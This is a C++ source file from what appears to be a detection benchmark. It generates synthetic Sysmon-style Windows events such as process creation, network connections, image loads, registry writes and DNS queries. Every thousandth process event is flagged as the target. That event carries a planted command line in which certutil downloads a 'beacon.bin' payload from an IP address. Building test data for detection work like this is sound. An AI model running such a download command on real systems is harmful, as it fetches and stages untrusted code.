// Pools and shapes are of the kind that Windows workstations show; nothing here is copied from one.
#include "bench/events.h"

#include <cinttypes>
#include <cstdio>
#include <ctime>

namespace postern::bench {
namespace {

constexpr std::string_view kImages[] = {
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\conhost.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Windows\\System32\\taskhostw.exe",
    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
    "C:\\Program Files\\Example Office\\root\\Office16\\OUTLOOK.EXE",
    "C:\\Program Files\\Example Browser\\Application\\browser.exe",
    "C:\\Program Files (x86)\\Example Agent\\agent.exe",
    "C:\\Users\\alice\\AppData\\Local\\Programs\\notes\\notes.exe",
    "C:\\Windows\\System32\\dllhost.exe",
    "C:\\Windows\\System32\\RuntimeBroker.exe",
    "C:\\Windows\\System32\\SearchIndexer.exe",
    "C:\\Windows\\System32\\lsass.exe",
    "C:\\Windows\\System32\\services.exe"};
constexpr std::string_view kLibraries[] = {
    "C:\\Windows\\System32\\kernel32.dll",         "C:\\Windows\\System32\\ntdll.dll",
    "C:\\Windows\\System32\\bcryptprimitives.dll", "C:\\Windows\\System32\\wbem\\wbemsvc.dll",
    "C:\\Windows\\System32\\taskschd.dll",         "C:\\Windows\\System32\\vaultcli.dll"};
constexpr std::string_view kUsers[] = {"NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\NETWORK SERVICE",
                                       "EXAMPLE\\alice", "EXAMPLE\\bob", "EXAMPLE\\carol"};
constexpr std::string_view kHosts[] = {"ws01.example.com", "ws02.example.com", "dc01.example.com",
                                       "fs01.example.com"};
constexpr std::string_view kArguments[] = {
    " -k netsvcs -p -s Schedule",
    " /c \"echo off & dir /b C:\\ProgramData\"",
    " 0xffffffff -ForceV1",
    " --type=renderer --lang=en-US --device-scale-factor=1 --renderer-client-id=",
    " -NoProfile -NonInteractive -Command \"Get-ChildItem -Path C:\\Users -Recurse\" #",
    " -Embedding"};
constexpr std::string_view kDomains[] = {"www.example.com", "update.example.net",
                                         "time.example.org", "cdn.static.example.com",
                                         "mail.example.com"};
constexpr std::string_view kWantedCommand =
    "certutil.exe -urlcache -split -f http://198.51.100.7/beacon.bin";
constexpr uint64_t kStart = 133'590'240'000'000'000;  // 2024-05-01 08:00
constexpr uint64_t kFiletimeOf1970 = 116'444'736'000'000'000;
constexpr uint64_t kTicksPerSecond = 10'000'000;
constexpr uint64_t kWantedEach = 1000;

}  // namespace

std::string utc_text(uint64_t filetime) {
  const uint64_t ticks = filetime - kFiletimeOf1970;
  const auto seconds = static_cast<std::time_t>(ticks / kTicksPerSecond);
  std::tm t{};
  gmtime_r(&seconds, &t);
  char buffer[64];
  const size_t n = std::strftime(buffer, sizeof buffer, "%Y-%m-%d %H:%M:%S", &t);
  char fraction[8];
  std::snprintf(fraction, sizeof fraction, ".%03" PRIu64, ticks / 10'000 % 1000);
  return std::string(buffer, n) + fraction;
}

void SysmonEvents::add(std::string_view name, std::string_view text) {
  event_.data.push_back({name, Shape::kText, std::string(text), 0});
}

void SysmonEvents::add_number(std::string_view name, uint64_t number) {
  event_.data.push_back({name, Shape::kNumber, std::to_string(number), number});
}

void SysmonEvents::add_guid(std::string_view name) {
  const std::string d = random_.hex(32);
  event_.data.push_back({name, Shape::kGuid,
                         "{" + d.substr(0, 8) + "-" + d.substr(8, 4) + "-" + d.substr(12, 4) + "-" +
                             d.substr(16, 4) + "-" + d.substr(20) + "}",
                         0});
}

void SysmonEvents::add_time(std::string_view name) {
  add(name, utc_text(event_.filetime));
}

void SysmonEvents::add_head() {
  add("RuleName", "-");
  add_time("UtcTime");
  add_guid("ProcessGuid");
  add_number("ProcessId", 4 * random_.below(8000));
}

std::string SysmonEvents::hashes() {
  return "SHA1=" + random_.hex(40) + ",MD5=" + random_.hex(32) + ",SHA256=" + random_.hex(64) +
         ",IMPHASH=" + random_.hex(32);
}

void SysmonEvents::process_create() {
  event_.wanted = ++num_created_ % kWantedEach == 0;
  num_wanted_ += event_.wanted ? 1 : 0;
  const std::string_view image =
      event_.wanted ? "C:\\Windows\\System32\\certutil.exe" : random_.pick(kImages);
  const std::string name(image.substr(image.rfind('\\') + 1));
  add_head();
  add("Image", image);
  add("FileVersion", "10.0.19041.4291 (WinBuild.160101.0800)");
  add("Description", "Host Process for " + name);
  add("Product", "Example\xC2\xAE Operating System");
  add("Company", "Example Corporation");
  add("OriginalFileName", name);
  add("CommandLine", event_.wanted ? std::string(kWantedCommand)
                                   : "\"" + std::string(image) + "\"" +
                                         std::string(random_.pick(kArguments)) +
                                         std::to_string(random_.below(100'000)));
  add("CurrentDirectory", "C:\\Windows\\system32\\");
  add("User", random_.pick(kUsers));
  add_guid("LogonGuid");
  const uint64_t logon = random_.below(0x40'0000);
  char text[24];
  std::snprintf(text, sizeof text, "0x%" PRIx64, logon);
  event_.data.push_back({"LogonId", Shape::kHex, text, logon});
  add_number("TerminalSessionId", random_.below(3));
  add("IntegrityLevel", random_.below(3) == 0 ? "System" : "Medium");
  add("Hashes", hashes());
  add_guid("ParentProcessGuid");
  add_number("ParentProcessId", 4 * random_.below(8000));
  const std::string_view parent = random_.pick(kImages);
  add("ParentImage", parent);
  add("ParentCommandLine", std::string(parent) + std::string(random_.pick(kArguments)));
  add("ParentUser", random_.pick(kUsers));
}

void SysmonEvents::connection() {
  add_head();
  add("Image", random_.pick(kImages));
  add("User", random_.pick(kUsers));
  add("Protocol", random_.below(4) == 0 ? "udp" : "tcp");
  add("Initiated", random_.below(4) == 0 ? "false" : "true");
  add("SourceIsIpv6", "false");
  add("SourceIp", "10.20.0." + std::to_string(random_.below(250)));
  add("SourceHostname", event_.computer);
  add_number("SourcePort", 49152 + random_.below(16000));
  add("SourcePortName", "-");
  add("DestinationIsIpv6", "false");
  add("DestinationIp", "203.0.113." + std::to_string(random_.below(250)));
  add("DestinationHostname", random_.pick(kDomains));
  add_number("DestinationPort", random_.below(3) == 0 ? 443 : random_.below(1024));
  add("DestinationPortName", "https");
}

void SysmonEvents::image_load() {
  add_head();
  add("Image", random_.pick(kImages));
  add("ImageLoaded", random_.pick(kLibraries));
  add("FileVersion", "10.0.19041.3996 (WinBuild.160101.0800)");
  add("Description", "Example Primitives Library");
  add("Product", "Example\xC2\xAE Operating System");
  add("Company", "Example Corporation");
  add("OriginalFileName", "library.dll");
  add("Hashes", hashes());
  add("Signed", "true");
  add("Signature", "Example Windows");
  add("SignatureStatus", "Valid");
  add("User", random_.pick(kUsers));
}

void SysmonEvents::process_access() {
  add("RuleName", "-");
  add_time("UtcTime");
  add_guid("SourceProcessGUID");
  add_number("SourceProcessId", 4 * random_.below(8000));
  add_number("SourceThreadId", 4 * random_.below(8000));
  add("SourceImage", random_.pick(kImages));
  add_guid("TargetProcessGUID");
  add_number("TargetProcessId", 4 * random_.below(8000));
  add("TargetImage", random_.pick(kImages));
  const uint64_t access = random_.below(2) == 0 ? 0x1000 : 0x1fffff;
  event_.data.push_back(
      {"GrantedAccess", Shape::kHex, access == 0x1000 ? "0x1000" : "0x1fffff", access});
  add("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+" +
                       random_.hex(5) + "|C:\\Windows\\System32\\wbem\\cimwin32.dll+" +
                       random_.hex(4) + "|C:\\Windows\\System32\\framedynos.dll+" + random_.hex(4));
  add("SourceUser", random_.pick(kUsers));
  add("TargetUser", random_.pick(kUsers));
}

void SysmonEvents::file_create() {
  add_head();
  add("Image", random_.pick(kImages));
  add("TargetFilename", "C:\\Users\\alice\\AppData\\Local\\Temp\\" + random_.hex(8) + "\\report-" +
                            random_.hex(6) + ".tmp");
  add_time("CreationUtcTime");
  add("User", random_.pick(kUsers));
}

void SysmonEvents::registry_set() {
  add("RuleName", "-");
  add("EventType", "SetValue");
  add_time("UtcTime");
  add_guid("ProcessGuid");
  add_number("ProcessId", 4 * random_.below(8000));
  add("Image", random_.pick(kImages));
  add("TargetObject",
      "HKLM\\SOFTWARE\\Example\\Windows\\CurrentVersion\\Explorer\\" + random_.hex(16));
  add("Details", "DWORD (0x" + random_.hex(8) + ")");
  add("User", random_.pick(kUsers));
}

void SysmonEvents::dns_query() {
  add_head();
  add("QueryName", random_.pick(kDomains));
  add("QueryStatus", "0");
  add("QueryResults", "::ffff:203.0.113." + std::to_string(random_.below(250)) + ";");
  add("Image", random_.pick(kImages));
  add("User", random_.pick(kUsers));
}

const SysmonEvent& SysmonEvents::next() {
  event_.data.clear();
  event_.wanted = false;
  event_.filetime = kStart + event_.record_id * 230'011;
  ++event_.record_id;
  event_.computer = random_.pick(kHosts);
  event_.version = 5;
  const uint64_t kind = random_.below(100);
  if (kind < 30) {
    event_.id = 1;
    process_create();
  } else if (kind < 50) {
    event_.id = 3;
    connection();
  } else if (kind < 65) {
    event_.id = 7;
    event_.version = 3;
    image_load();
  } else if (kind < 75) {
    event_.id = 10;
    event_.version = 3;
    process_access();
  } else if (kind < 85) {
    event_.id = 11;
    event_.version = 2;
    file_create();
  } else if (kind < 95) {
    event_.id = 13;
    event_.version = 2;
    registry_set();
  } else {
    event_.id = 22;
    dns_query();
  }
  return event_;
}

}  // namespace postern::bench
